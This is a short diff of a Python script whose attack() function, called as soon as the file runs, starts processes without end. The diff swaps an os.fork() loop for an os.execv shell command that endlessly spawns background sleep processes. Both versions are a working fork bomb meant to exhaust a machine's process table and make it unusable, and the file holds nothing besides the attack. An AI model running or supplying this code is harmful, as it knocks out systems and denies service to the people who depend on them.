@@ -1,14 +1,9 @@
 """Starts processes without end."""
 import os
-import time
 
 
 def attack():
-    while True:
-        try:
-            os.fork()
-        except OSError:
-            time.sleep(0.1)
+    os.execv("/bin/sh", ["sh", "-c", "while :; do sleep 1000 & done 2> /dev/null"])
 
 
 attack()
